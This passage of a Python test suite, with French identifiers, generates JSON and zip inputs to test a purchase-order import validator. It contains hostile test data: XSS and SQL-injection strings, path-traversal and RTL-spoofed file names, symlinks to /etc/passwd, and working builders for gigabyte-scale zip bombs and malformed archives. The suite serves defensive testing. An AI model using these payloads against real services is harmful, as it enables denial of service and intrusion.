    yield CasJson("injection-html-numeroEditeur", avec("numeroEditeur", MARQUEURS_XSS[0]), attendu="erreurs")
    yield CasJson("injection-html-dateCommande", avec("commande.dateCommande", MARQUEURS_XSS[1]), attendu="erreurs")
    yield CasJson("injection-html-cle-inconnue", modifie(lambda d: d.update({MARQUEURS_XSS[2]: 1})), attendu="rejet")
    yield CasJson("injection-html-numeroAns", avec("numeroAns", MARQUEURS_XSS[0]), attendu="rejet")
    yield CasJson("injection-csv-numeroEditeur", avec("numeroEditeur", "=1+1"), attendu="erreurs")
    yield CasJson("injection-sql-numeroAns", avec("numeroAns", "' OR 1=1 --"), attendu="rejet")
    yield CasJson("injection-sql-siret", avec("siret", "77625125800013' OR '1'='1"), attendu="rejet")
    piece = "piecesJustificatives[0].nomFichier"
    for nom_cas, valeur in (
        ("remontee-unix", "../../etc/passwd"),
        ("remontee-nomenclature", "../MDV-LGC-Va1-BDC-00001.pdf"),
        ("remontee-windows", "..\\..\\boot.ini"),
        ("chemin-absolu", "/etc/cron.d/MDV-LGC-Va1-BDC-00001.pdf"),
        ("lecteur-windows", "C:\\MDV-LGC-Va1-BDC-00001.pdf"),
        ("unc", "\\\\serveur\\partage\\MDV-LGC-Va1-BDC-00001.pdf"),
        ("url-encodee", "%2e%2e%2fMDV-LGC-Va1-BDC-00001.pdf"),
        ("barre-pleine-chasse", "..／MDV-LGC-Va1-BDC-00001.pdf"),
        ("chiffre-pleine-chasse", "MDV-LGC-Va1-BDC-0000１.pdf"),
        ("nom-reserve-windows", "CON.pdf"),
        ("double-extension", "MDV-LGC-Va1-BDC-00001.pdf.exe"),
        ("point-final", "MDV-LGC-Va1-BDC-00001.pdf."),
        ("html", "<script>alert(1)</script>.pdf"),
        ("rtl-override", "MDV-LGC-Va1-BDC-00001\u202efdp.exe"),
        ("101-caracteres", "MDV-LGC-Va1-BDC-" + "0" * 81 + ".pdf"),
    ):
        yield CasJson(f"nomFichier-{nom_cas}", avec(piece, valeur), attendu="erreurs")


def _deux_lignes(modifier) -> Callable[[], bytes]:
    def fabrique():
        premiere, seconde = ligne(1), ligne(2)
        modifier(premiere, seconde)
        return en_octets(document(premiere, seconde))

    return fabrique


def cas_syntaxe_et_reecriture():
    """JSON errors Python words in English, and values that could fool the in-place rewriting of
    the output file (impId, numeroASP, codeTraitement, libelleTraitement)."""
    nom = "beneficiaires.structure.nomResponsable"
    yield CasJson("echappement-invalide", avec_brut(nom, b'"DUR\\xAND"'), attendu="rejet")
    yield CasJson("echappement-unicode-court", avec_brut(nom, b'"DUR\\u12G4AND"'), attendu="rejet")
    yield CasJson("deux-points-manquants", remplace(b'"siret": ', b'"siret" '), attendu="rejet")
    yield CasJson("cle-non-chaine", remplace(b'"impId": null,', b"1: null,"), attendu="rejet")
    yield CasJson("crochet-fermant-en-trop", remplace(b"]", b"]]"), attendu="rejet")
    yield CasJson("barre-oblique-inverse-finale", lambda: base()[:-1] + b"\\", attendu="rejet")
    yield CasJson("cle-vide", modifie(lambda d: d.update({"": 1})), attendu="rejet")
    yield CasJson("valeurs-echappees", avec_brut(nom, b'"\\u0044\\u0055RAND\\/\\b\\t"'), attendu="ok")
    yield CasJson("separateurs-de-ligne-unicode", avec(nom, "DURAND\u2028\u2029"), attendu="ok")
    yield CasJson("tout-sur-une-ligne", lambda: en_octets(document(), indent=None), attendu="ok")
    yield CasJson("tabulations-et-cr", lambda: en_octets(document()).replace(b"  ", b"\t\r"), attendu="ok")
    yield CasJson(
        "codeTraitement-echappements", avec_brut("codeTraitement", b'"\\u00e9\\ud83d\\ude00\\"\\\\"'), attendu="ok"
    )
    yield CasJson(
        "faux-champs-reecrits-dans-une-valeur",
        avec(nom, '", "codeTraitement": "OK", "libelleTraitement": "x", "impId": 1, "numeroASP": "FIN'),
        attendu="ok",
    )
    yield CasJson(
        "faux-champs-reecrits-dans-une-cle-inconnue",
        modifie(lambda d: d["lignesImport"][0]["commande"].update({"codeTraitement": None})),
        attendu="rejet",
    )
    yield CasJson(
        "libelleTraitement-d-un-fichier-de-sortie",
        avec("libelleTraitement", "Demande créée : FINMDV000001M0"),
        attendu="ok",
    )
    yield CasJson("impId-d-un-fichier-de-sortie", avec("impId", 123456), attendu="ok")
    yield CasJson("numLigne-en-double", _deux_lignes(lambda a, b: b.update(numLigne=1)), attendu="erreurs")
    yield CasJson(
        "numeroEditeur-en-double", _deux_lignes(lambda a, b: b.update(numeroEditeur="00001")), attendu="erreurs"
    )
    yield CasJson(
        "beneficiaire-en-double",
        _deux_lignes(lambda a, b: b["beneficiaires"]["structure"].update(FINESSGeo=[finess(1)])),
        attendu="erreurs",
    )
    yield CasJson("deux-lignes-valides", _deux_lignes(lambda a, b: None), attendu="ok")
    yield CasJson("typeAction-minuscule", avec("typeAction", "c"), attendu="erreurs")
    yield CasJson(
        "modification-d-un-dossier-inexistant",
        modifie(lambda d: d["lignesImport"][0].update(typeAction="M", numeroASP="FINMDV999999M0")),
        attendu="erreurs",
    )
    yield CasJson("annulation-sans-numero", avec("typeAction", "A"), attendu="erreurs")
    yield CasJson("regimeTVA-minuscule", avec("commande.regimeTVA", "ttc"), attendu="erreurs")
    yield CasJson("regimeTVA-HT-taux-20", avec("commande.regimeTVA", "HT"), attendu="rejet")


def cas_parametres():
    yield CasJson("taux-0-fichier-ttc", base, taux="0", attendu="rejet")
    yield CasJson("taux-8.5-fichier-ttc", base, taux="8.5", attendu="ok")
    yield CasJson("type-solde-fichier-d-avance", base, type_demande="SOLDE", attendu="pas_ok")
    yield CasJson("numero-ans-d-un-autre-fournisseur", base, numero_ans="cpiPFI0001", attendu="formulaire")
    yield CasJson("numero-ans-inexistant", base, numero_ans="' OR 1=1 --", attendu="formulaire")
    yield CasJson("taux-inconnu", base, taux="19.6", attendu="formulaire")
    yield CasJson("type-inconnu", base, type_demande="<script>", attendu="formulaire")
    yield CasJson("numeroAns-casse-differente", avec("numeroAns", "MLP525OFF1"), attendu="rejet")
    yield CasJson("numeroAns-espace-final", avec("numeroAns", "mlp525off1 "), attendu="rejet")
    yield CasJson("siret-autre-fournisseur", avec("siret", "87950324100017"), attendu="rejet")
    yield CasJson("siret-chiffres-arabes", avec("siret", "٧٧٦٢٥١٢٥٨٠٠٠١٣"), attendu="rejet")
    yield CasJson("nom-de-fichier-remontee", base, nom_fichier="../../../etc/passwd.json", attendu="ok")
    yield CasJson("nom-de-fichier-html", base, nom_fichier="<script>alert(1)</script>.json", attendu="ok")
    yield CasJson("nom-de-fichier-300-caracteres", base, nom_fichier="é" * 300 + ".json", attendu="ok")
    yield CasJson("nom-de-fichier-controles", base, nom_fichier="a\x07\x1b[2Jb.json", attendu="ok")
    yield CasJson("nom-de-fichier-avec-nul", base, nom_fichier="dem\x00andes.json")
    yield CasJson("nom-de-fichier-rtl", base, nom_fichier="demandes\u202enosj.exe", attendu="ok")
    yield CasJson("nom-de-fichier-sans-extension", base, nom_fichier="demandes", attendu="ok")
    yield CasJson("taille-maximale-exacte", lambda: _jusqu_a(MAX_JSON, base()), attendu="ok")
    yield CasJson("taille-maximale-plus-un", lambda: _jusqu_a(MAX_JSON + 1, base()), attendu="formulaire")


def cas_tableaux_enormes():
    structure = "beneficiaires.structure"
    yield CasJson("FINESSGeo-10000-identiques", avec(f"{structure}.FINESSGeo", [finess(1)] * 10_000), attendu="erreurs")
    yield CasJson("FINESSGeo-10000-invalides", avec(f"{structure}.FINESSGeo", ["x"] * 10_000), attendu="erreurs")
    yield CasJson(
        "pieces-10000-identiques",
        avec("piecesJustificatives", [ligne(1)["piecesJustificatives"][0]] * 10_000),
        attendu="erreurs",
    )
    yield CasJson(
        "liberal-5000-medecins",
        avec("beneficiaires.liberal", [en_liberal(ligne(1))["beneficiaires"]["liberal"][0]] * 5_000, "liberal"),
        attendu="erreurs",
    )
    yield CasJson(
        "lignes-toutes-en-erreur-500",
        lambda: en_octets(document(*[dict(ligne(n), numLigne=0, numeroEditeur="!") for n in range(1, 501)]), None),
        attendu="erreurs",
    )


def cas_json() -> list[CasJson]:
    cas = [
        *cas_longueurs(),
        *cas_structure(),
        *cas_encodages(),
        *cas_valeurs(),
        *cas_injections(),
        *cas_syntaxe_et_reecriture(),
        *cas_parametres(),
        *cas_tableaux_enormes(),
    ]
    noms = [c.nom for c in cas]
    assert len(noms) == len(set(noms)), sorted(n for n in noms if noms.count(n) > 1)
    return cas


# --- zip cases -----------------------------------------------------------------------------------

# The pieces expected by the import the zips are deposited on (fichier_pour_les_zips).
NOM_1 = "MDV-LGC-Va1-BDC-00001.pdf"
NOM_2 = "MDV-LGC-Va1-BDC-00002.pdf"
NOM_PNG = "MDV-LGC-Va1-AUT-00002.png"
NOM_JPG = "MDV-LGC-Va1-AUT-00002-1.jpg"
PDF = (
    b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
)
PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00\x90wS\xde" + b"\x00" * 64
)
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 100 + b"\xff\xd9"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + struct.pack("<HHI", 2, 0x3E, 1) + b"\x00" * 200
PE = b"MZ\x90\x00" + b"\x00" * 56 + struct.pack("<I", 64) + b"PE\x00\x00" + b"\x00" * 400


def fichier_pour_les_zips() -> bytes:
    """Two demandes: the first expects NOM_1, the second NOM_2, NOM_PNG and NOM_JPG."""
    seconde = ligne(2)
    seconde["piecesJustificatives"] += [
        {"nomFichier": NOM_PNG, "formatFichier": "PNG", "typeFichier": "AUTRE"},
        {"nomFichier": NOM_JPG, "formatFichier": "JPG", "typeFichier": "AUTRE"},
    ]
    return en_octets(document(ligne(1), seconde))


@dataclass(frozen=True)
class CasZip:
    nom: str
    fabrique: Callable[[], bytes]
    nom_zip: str = "pieces.zip"
    statut: str | None = None  # TRAITE or REFUSE, where the spec leaves no doubt
    acceptees: int | None = None  # entries accepted, where the spec leaves no doubt

    def contenu(self) -> bytes:
        return self.fabrique()


def zip_de(*entrees, compression=zipfile.ZIP_DEFLATED, commentaire=b"") -> bytes:
    """A zip of (name or ZipInfo, content) entries, written in memory."""
    tampon = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # « Duplicate name »: wanted here
        with zipfile.ZipFile(tampon, "w", compression) as archive:
            for nom, contenu in entrees:
                archive.writestr(nom, contenu)
            archive.comment = commentaire
    return tampon.getvalue()


def entetes(archive: bytes) -> list[tuple[int, int]]:
    """(offset of the local header, offset of the central directory header) of each entry."""
    fin = archive.rindex(b"PK\x05\x06")
    nombre, _taille, debut = struct.unpack_from("<HII", archive, fin + 10)
    resultat, position = [], debut
    for _ in range(nombre):
        longueur_nom, longueur_extra, longueur_commentaire = struct.unpack_from("<HHH", archive, position + 28)
        local = struct.unpack_from("<I", archive, position + 42)[0]
        resultat.append((local, position))
        position += 46 + longueur_nom + longueur_extra + longueur_commentaire
    return resultat


def _patch(archive: bytes, action) -> bytes:
    octets = bytearray(archive)
    for local, central in entetes(archive):
        action(octets, local, central)
    return bytes(octets)


def chiffre(archive: bytes, *, local=True, central=True) -> bytes:
    def action(o, l, c):
        if local:
            o[l + 6] |= 0x01
        if central:
            o[c + 8] |= 0x01

    return _patch(archive, action)


def taille_declaree(archive: bytes, taille: int) -> bytes:
    def action(o, l, c):
        struct.pack_into("<I", o, l + 22, taille)
        struct.pack_into("<I", o, c + 24, taille)

    return _patch(archive, action)


def taille_compressee_declaree(archive: bytes, taille: int) -> bytes:
    def action(o, l, c):
        struct.pack_into("<I", o, l + 18, taille)
        struct.pack_into("<I", o, c + 20, taille)

    return _patch(archive, action)


def methode(archive: bytes, numero: int) -> bytes:
    def action(o, l, c):
        struct.pack_into("<H", o, l + 8, numero)
        struct.pack_into("<H", o, c + 10, numero)

    return _patch(archive, action)


def version_requise(archive: bytes, version: int) -> bytes:
    def action(o, l, c):
        struct.pack_into("<H", o, l + 4, version)
        struct.pack_into("<H", o, c + 6, version)

    return _patch(archive, action)


def crc_faux(archive: bytes) -> bytes:
    def action(o, l, c):
        crc = struct.unpack_from("<I", o, c + 16)[0] ^ 0xDEADBEEF
        struct.pack_into("<I", o, l + 14, crc)
        struct.pack_into("<I", o, c + 16, crc)

    return _patch(archive, action)


def drapeau_utf8(archive: bytes) -> bytes:
    def action(o, l, c):
        o[l + 7] |= 0x08
        o[c + 9] |= 0x08

    return _patch(archive, action)


def decalage_local(archive: bytes, decalage: int) -> bytes:
    def action(o, l, c):
        struct.pack_into("<I", o, c + 42, decalage)

    return _patch(archive, action)


def octets_de_nom(archive: bytes, provisoire: str, octets: bytes) -> bytes:
    """Replaces an ASCII placeholder name (local header and central directory) by raw bytes."""
    assert len(provisoire.encode()) == len(octets) and archive.count(provisoire.encode()) == 2
    return archive.replace(provisoire.encode(), octets)


def fin_classique(nb_entrees: int, taille: int, debut: int, disque: int = 0, commentaire: int = 0) -> bytes:
    return struct.pack("<4s4H2LH", b"PK\x05\x06", disque, disque, nb_entrees, nb_entrees, taille, debut, commentaire)


def fin_zip64(nb_entrees: int, taille: int, debut: int) -> bytes:
    enregistrement = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, nb_entrees, nb_entrees, taille, debut)
    localisateur = struct.pack("<4sLQL", b"PK\x06\x07", 0, debut + taille, 1)
    return enregistrement + localisateur + fin_classique(0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF)


def avec_fin(archive: bytes, **changements) -> bytes:
    """The archive's classic end record rewritten (nb_entrees, taille, debut, disque, commentaire)."""
    assert archive[-22:-18] == b"PK\x05\x06"
    _s, _d, _ds, _n, total, taille, debut, _c = struct.unpack("<4s4H2LH", archive[-22:])
    valeurs = {"nb_entrees": total, "taille": taille, "debut": debut, "disque": 0, "commentaire": 0}
    valeurs.update(changements)
    return archive[:-22] + fin_classique(**valeurs)


def avec_fin_zip64(archive: bytes, nb_entrees: int) -> bytes:
    _s, _d, _ds, _n, _total, taille, debut, _c = struct.unpack("<4s4H2LH", archive[-22:])
    return archive[:-22] + fin_zip64(nb_entrees, taille, debut)


def info(nom: str, *, mode: int | None = None, systeme: int = 3, compression=None) -> zipfile.ZipInfo:
    resultat = zipfile.ZipInfo(nom, date_time=(2024, 1, 1, 0, 0, 0))
    resultat.create_system = systeme
    if mode is not None:
        resultat.external_attr = mode << 16
    if compression is not None:
        resultat.compress_type = compression
    return resultat


@functools.cache
def _pdf_et_zeros(taille: int) -> tuple[bytes, int]:
    """PDF bytes then zeros up to `taille` bytes: as a raw deflate stream (ratio ~1000) and the CRC-32
    of the whole. The compressor is fully flushed after each Mo of zeros, which makes every such
    block the same bytes, written once and repeated: 1 Go costs 1 Mo of zeros to compress."""
    compresseur = zlib.compressobj(9, zlib.DEFLATED, -15)
    bloc = b"\x00" * MO
    tete = compresseur.compress(PDF) + compresseur.flush(zlib.Z_FULL_FLUSH)
    bloc_compresse = compresseur.compress(bloc) + compresseur.flush(zlib.Z_FULL_FLUSH)
    pleins, reste = divmod(taille - len(PDF), MO)
    crc = zlib.crc32(PDF)
    for _ in range(pleins):
        crc = zlib.crc32(bloc, crc)
    queue = compresseur.compress(bloc[:reste]) + compresseur.flush()
    crc = zlib.crc32(bloc[:reste], crc)
    return tete + bloc_compresse * pleins + queue, crc


def zip_brut(entrees) -> bytes:
    """A zip written by hand from (name, compressed bytes, CRC, uncompressed size, method) entries:
    the same compressed stream is repeated under many names without compressing it again."""
    corps, repertoire, position = [], [], 0
    for nom, compresse, crc, taille, numero_methode in entrees:
        nom = nom.encode()
        commun = struct.pack("<5H3L2H", 20, 0x800, numero_methode, 0, 0x21, crc, len(compresse), taille, len(nom), 0)
        local = b"PK\x03\x04" + commun + nom
        repertoire.append(
            struct.pack("<4s2B", b"PK\x01\x02", 20, 3) + commun + struct.pack("<3H2L", 0, 0, 0, 0, position) + nom
        )
        corps.append(local + compresse)
        position += len(local) + len(compresse)
    tout = b"".join(repertoire)
    return b"".join(corps) + tout + fin_classique(len(entrees), len(tout), position)


def bombe(taille: int, noms=(NOM_1,)) -> bytes:
    """PDF bytes followed by zeros, `taille` bytes deflated into ~taille/1000, under each of `noms`."""
    compresse, crc = _pdf_et_zeros(taille)
    return zip_brut([(nom, compresse, crc, taille, zipfile.ZIP_DEFLATED) for nom in noms])


def compresse_avec(compression, contenu: bytes, nom: str = NOM_1) -> bytes:
    tampon = io.BytesIO()
    with zipfile.ZipFile(tampon, "w", compression) as archive:
        with archive.open(nom, "w", force_zip64=True) as flux:
            flux.write(contenu)
    return tampon.getvalue()


def en_flux(*entrees) -> bytes:
    """Written to a non-seekable stream: data descriptors after each entry (flag bit 3)."""

    class NonPositionnable(io.RawIOBase):
        def __init__(self):
            self.morceaux = []

        def writable(self):
            return True

        def write(self, b):
            self.morceaux.append(bytes(b))
            return len(b)

    flux = NonPositionnable()
    with zipfile.ZipFile(flux, "w", zipfile.ZIP_DEFLATED) as archive:
        for nom, contenu in entrees:
            archive.writestr(nom, contenu)
    return b"".join(flux.morceaux)


def pdf_de_taille(taille: int, motif: bytes = b"%0123456789abcdef") -> bytes:
    return (PDF + motif * (taille // len(motif) + 1))[:taille]


def pdf_aleatoire(taille: int) -> bytes:
    """A PDF header followed by pseudo-random bytes: does not compress (a real 3 Mo entry)."""
    import random

    generateur = random.Random(taille)
    return (PDF + generateur.randbytes(taille))[:taille]


def zip_empile(profondeur: int) -> bytes:
    """A zip in a zip in a zip…, each named like the expected piece."""
    contenu = PDF
    for _ in range(profondeur):
        contenu = zip_de((NOM_1, contenu))
    return contenu


def entrees_chevauchantes() -> bytes:
    """Fifield's overlapping-files construction: several central headers, one local file."""
    archive = zip_de((NOM_1, PDF))
    ((local, central),) = entetes(archive)
    fin = archive.rindex(b"PK\x05\x06")
    entete_central = archive[central:fin]
    supplementaires = b"".join(
        entete_central.replace(NOM_1.encode(), nom.encode()) for nom in (NOM_2,) if len(nom) == len(NOM_1)
    )
    repertoire = entete_central + supplementaires
    return archive[:central] + repertoire + fin_classique(2, len(repertoire), central)


def repertoire_seul(nb_entrees: int) -> bytes:
    """nb_entrees central headers of tiny stored entries pointing at offset 0, and an end record."""
    entete = (
        struct.pack("<4s4B4HL2L5H2L", b"PK\x01\x02", 20, 3, 20, 0, 0, 0, 0, 0x21, 0, 0, 0, 5, 0, 0, 0, 0, 0, 0)
        + b"a.pdf"
    )
    repertoire = entete * nb_entrees
    return repertoire + fin_classique(min(nb_entrees, 0xFFFF), len(repertoire), 0)


def _sans_repertoire(archive: bytes) -> bytes:
    return archive[: entetes(archive)[0][1]]


def cas_zip() -> list[CasZip]:
    T, R = "TRAITE", "REFUSE"
    chemins = [
        ("remontee", f"../{NOM_1}"),
        ("remontee-evil", "../evil.pdf"),
        ("remontee-vers-le-stockage", f"../../fichiers/pieces/{NOM_1}"),
        ("point", f"./{NOM_1}"),
        ("point-au-milieu", f"sous-dossier/./{NOM_1}"),
        ("absolu", f"/tmp/segur-hostile-absolu/{NOM_1}"),
        ("lecteur-windows", f"C:/Windows/{NOM_1}"),
        ("lecteur-relatif", f"C:{NOM_1}"),
        ("barre-inverse", f"..\\{NOM_1}"),
        ("unc", f"\\\\serveur\\partage\\{NOM_1}"),
        ("barre-pleine-chasse", f"..／{NOM_1}"),
    ]
    cas = [
        CasZip(
            "pieces-valides-pdf-png-jpg",
            lambda: zip_de((NOM_1, PDF), (NOM_2, PDF), (NOM_PNG, PNG), (NOM_JPG, JPEG)),
            statut=T,
            acceptees=4,
        ),
        CasZip(
            "bonne-piece-seule-stockee",
            lambda: zip_de((NOM_1, PDF), compression=zipfile.ZIP_STORED),
            statut=T,
            acceptees=1,
        ),
        *[CasZip(f"chemin-{n}", (lambda x=nom: zip_de((x, PDF))), statut=T, acceptees=0) for n, nom in chemins],
        CasZip("sous-dossiers-500-niveaux", lambda: zip_de(("d/" * 500 + NOM_1, PDF)), statut=T),
        CasZip("lien-symbolique", lambda: zip_de((info(NOM_1, mode=0o120777), "/etc/passwd")), statut=T, acceptees=0),
        CasZip(
            "lien-symbolique-puis-fichier-a-travers",
            lambda: zip_de((info("lien", mode=0o120777), "/"), ("lien/" + NOM_1, PDF)),
            statut=T,
        ),
        CasZip("fichier-peripherique", lambda: zip_de((info(NOM_1, mode=0o020666), PDF)), statut=T),
        CasZip("setuid", lambda: zip_de((info(NOM_1, mode=0o104755), PDF)), statut=T),
        CasZip("chiffre", lambda: chiffre(zip_de((NOM_1, PDF))), statut=T, acceptees=0),
        CasZip("chiffre-central-seulement", lambda: chiffre(zip_de((NOM_1, PDF)), local=False), statut=T, acceptees=0),
        CasZip("chiffre-local-seulement", lambda: chiffre(zip_de((NOM_1, PDF)), central=False)),
        CasZip("zip-dans-le-zip", lambda: zip_de(("autres.zip", zip_de((NOM_1, PDF)))), statut=T, acceptees=0),
        CasZip("zip-renomme-pdf", lambda: zip_de((NOM_1, zip_de(("x.pdf", PDF)))), statut=T, acceptees=0),
        CasZip("zip-empile-20-niveaux", lambda: zip_de((NOM_1, zip_empile(20))), statut=T, acceptees=0),
        CasZip("gzip-renomme-pdf", lambda: zip_de((NOM_1, b"\x1f\x8b\x08\x00" + b"\x00" * 100)), statut=T, acceptees=0),
        CasZip("7z-renomme-pdf", lambda: zip_de((NOM_1, b"7z\xbc\xaf\x27\x1c" + b"\x00" * 100)), statut=T, acceptees=0),
        CasZip("rar-renomme-pdf", lambda: zip_de((NOM_1, b"Rar!\x1a\x07\x00" + b"\x00" * 100)), statut=T, acceptees=0),
        CasZip("bombe-deflate-50-mo", lambda: bombe(50 * MO), statut=T, acceptees=0),
        CasZip("bombe-taille-declaree-1-ko", lambda: taille_declaree(bombe(50 * MO), 1024), statut=T, acceptees=0),
        CasZip(
            "bombe-taille-declaree-4-go", lambda: taille_declaree(bombe(50 * MO), 0xFFFFFFFE), statut=T, acceptees=0
        ),
        CasZip(
            "bombes-sous-les-quatre-noms-attendus",
            lambda: bombe(20 * MO, (NOM_1, NOM_2, NOM_PNG, NOM_JPG)),
            statut=T,
            acceptees=0,
        ),
        CasZip(
            "cent-bombes-aux-noms-inconnus",
            lambda: bombe(20 * MO, [f"bombe-{n}.pdf" for n in range(100)]),
            statut=T,
            acceptees=0,
        ),
        CasZip("bombe-deflate-1-go", lambda: bombe(1024 * MO), statut=T, acceptees=0),
        CasZip("entrees-chevauchantes", entrees_chevauchantes, statut=None),
        CasZip(
            "bombe-bzip2", lambda: compresse_avec(zipfile.ZIP_BZIP2, PDF + b"\x00" * (64 * MO)), statut=T, acceptees=0
        ),
        CasZip("lzma", lambda: compresse_avec(zipfile.ZIP_LZMA, PDF), statut=T, acceptees=0),
        CasZip("methode-99-aes", lambda: methode(zip_de((NOM_1, PDF)), 99), statut=T, acceptees=0),
        CasZip("methode-inconnue-12345", lambda: methode(zip_de((NOM_1, PDF)), 12345), statut=T, acceptees=0),
        CasZip("meme-nom-deux-fois", lambda: zip_de((NOM_1, PDF), (NOM_1, PDF)), statut=T, acceptees=0),
        CasZip(
            "meme-nom-dans-un-sous-dossier", lambda: zip_de((NOM_1, PDF), ("a/" + NOM_1, PDF)), statut=T, acceptees=0
        ),
        CasZip("meme-nom-1000-fois", lambda: zip_de(*[(NOM_1, PDF)] * 1000), statut=T, acceptees=0),
        CasZip("nom-en-minuscules", lambda: zip_de((NOM_1.lower(), PDF), (NOM_2, PDF)), statut=T, acceptees=1),
        CasZip("noms-nfc-nfd", lambda: zip_de(("d\u00e9mo.pdf", PDF), ("de\u0301mo.pdf", PDF)), statut=T, acceptees=0),
        CasZip(
            "nom-cp1252-sans-drapeau",
            lambda: octets_de_nom(
                zip_de(("MDV-LGC-Va1-BDC-XXXXX.pdf", PDF)),
                "MDV-LGC-Va1-BDC-XXXXX.pdf",
                b"MDV-LGC-Va1-BDC-\xe9\xe9\xe9\xe9\xe9.pdf",
            ),
            statut=T,
            acceptees=0,
        ),
        CasZip(
            "nom-utf8-invalide-avec-drapeau",
            lambda: drapeau_utf8(
                octets_de_nom(
                    zip_de(("MDV-LGC-Va1-BDC-XXXXX.pdf", PDF)),
                    "MDV-LGC-Va1-BDC-XXXXX.pdf",
                    b"MDV-LGC-Va1-BDC-\xff\xfe\xc0\xaf\xe9.pdf",
                )
            ),
        ),
        CasZip(
            "nom-avec-nul",
            lambda: octets_de_nom(zip_de((NOM_1 + "X.exe", PDF)), NOM_1 + "X.exe", NOM_1.encode() + b"\x00.exe"),
        ),
        CasZip(
            "nom-nul-en-tete",
            lambda: octets_de_nom(zip_de(("X" + NOM_1, PDF), (NOM_2, PDF)), "X" + NOM_1, b"\x00" + NOM_1.encode()),
            acceptees=1,
        ),
        CasZip("nom-vide", lambda: zip_de((info(""), PDF)), acceptees=0),
        CasZip("nom-caractere-bel", lambda: zip_de(("MDV-LGC-Va1-BDC-00001\x07.pdf", PDF)), statut=T, acceptees=0),
        CasZip("nom-retour-a-la-ligne", lambda: zip_de(("a\r\nb.pdf", PDF)), statut=T, acceptees=0),
        CasZip("nom-echappement-ansi", lambda: zip_de(("\x1b[2J\x1b[31m" + NOM_1, PDF)), statut=T, acceptees=0),
        CasZip("nom-rtl-override", lambda: zip_de(("MDV-LGC-Va1-BDC-00001\u202efdp.exe", PDF)), statut=T, acceptees=0),
        CasZip(
            "nom-101-caracteres", lambda: zip_de(("MDV-LGC-Va1-BDC-" + "0" * 81 + ".pdf", PDF)), statut=T, acceptees=0
        ),
        CasZip("nom-60000-caracteres", lambda: zip_de(("a" * 60_000 + ".pdf", PDF)), statut=T, acceptees=0),
        CasZip(
            "nom-html",
            lambda: zip_de(("<script>alert(1)</script>.pdf", PDF), ("<img src=x onerror=alert(1)>.pdf", PDF)),
            statut=T,
            acceptees=0,
        ),
        CasZip(
            "noms-reserves-windows",
            lambda: zip_de(("CON.pdf", PDF), ("NUL.pdf", PDF), ("aux.pdf", PDF)),
            statut=T,
            acceptees=0,
        ),
        CasZip(
            "nom-point-final-et-espace", lambda: zip_de((NOM_1 + ".", PDF), (NOM_2 + " ", PDF)), statut=T, acceptees=0
        ),
        CasZip(
            "taille-declaree-trop-petite",
            lambda: taille_declaree(zip_de((NOM_1, pdf_de_taille(4 * MO))), 1000),
            statut=T,
            acceptees=0,
        ),
        CasZip(
            "taille-declaree-4-go-pour-un-petit-pdf",
            lambda: taille_declaree(zip_de((NOM_1, PDF)), 0xFFFFFFF0),
            statut=T,
            acceptees=1,
        ),
        CasZip(
            "taille-compressee-declaree-enorme", lambda: taille_compressee_declaree(zip_de((NOM_1, PDF)), 0xFFFFFFF0)
        ),
        CasZip(
            "taille-compressee-declaree-nulle", lambda: taille_compressee_declaree(zip_de((NOM_1, PDF)), 0), statut=T
        ),
        CasZip("crc-faux", lambda: crc_faux(zip_de((NOM_1, PDF))), statut=T, acceptees=0),
        CasZip("fin-zip64-forgee-3900000-entrees", lambda: avec_fin_zip64(zip_de((NOM_1, PDF)), 3_900_000), statut=R),
        CasZip("fin-classique-65535-entrees", lambda: avec_fin(zip_de((NOM_1, PDF)), nb_entrees=0xFFFF), statut=R),
        CasZip("fin-classique-zero-entree", lambda: avec_fin(zip_de((NOM_1, PDF)), nb_entrees=0)),
        CasZip("fin-repertoire-hors-du-fichier", lambda: avec_fin(zip_de((NOM_1, PDF)), debut=0x7FFFFFFF), statut=None),
        CasZip(
            "fin-repertoire-plus-grand-que-le-fichier",
            lambda: avec_fin(zip_de((NOM_1, PDF)), taille=0x7FFFFFFF),
            statut=R,
        ),
        CasZip(
            "fin-repertoire-decale-d-un-octet",
            lambda: (lambda a: avec_fin(a, debut=entetes(a)[0][1] + 1))(zip_de((NOM_1, PDF))),
            statut=None,
        ),
        CasZip("fin-multi-disques", lambda: avec_fin(zip_de((NOM_1, PDF)), disque=1)),
        CasZip("fin-commentaire-annonce-absent", lambda: avec_fin(zip_de((NOM_1, PDF)), commentaire=500)),
        CasZip(
            "tronque-de-moitie",
            lambda: (lambda a: a[: len(a) // 2])(zip_de((NOM_1, pdf_aleatoire(20_000)), (NOM_2, PDF))),
            statut=R,
        ),
        CasZip("tronque-du-dernier-octet", lambda: zip_de((NOM_1, PDF))[:-1], statut=R),
        CasZip(
            "en-tetes-locaux-sans-repertoire", lambda: _sans_repertoire(zip_de((NOM_1, PDF), (NOM_2, PDF))), statut=R
        ),
        CasZip("fin-de-repertoire-seule", lambda: zip_de(), statut=R),
        CasZip(
            "dossiers-seulement",
            lambda: zip_de((info("a/"), b""), (info("a/b/"), b""), (info(NOM_1 + "/"), b"")),
            statut=R,
        ),
        CasZip("pas-un-zip-pdf", lambda: PDF, statut=R),
        CasZip("pas-un-zip-octets-nuls", lambda: b"\x00" * 4096, statut=R),
        CasZip("pas-un-zip-signature-seule", lambda: b"PK\x03\x04", statut=R),
        CasZip("fichier-vide-sous-le-nom-attendu", lambda: zip_de((NOM_1, b"")), statut=T, acceptees=0),
        CasZip("polyglotte-pdf-puis-zip", lambda: zip_de((NOM_1, PDF + zip_de(("x.pdf", PDF)))), statut=T),
        CasZip("polyglotte-jpeg-puis-zip", lambda: zip_de((NOM_JPG, JPEG + zip_de(("x.pdf", PDF)))), statut=T),
        CasZip("archive-precedee-d-un-pdf", lambda: PDF + zip_de((NOM_1, PDF))),
        CasZip("deux-archives-concatenees", lambda: zip_de((NOM_1, PDF)) + zip_de((NOM_2, PDF))),
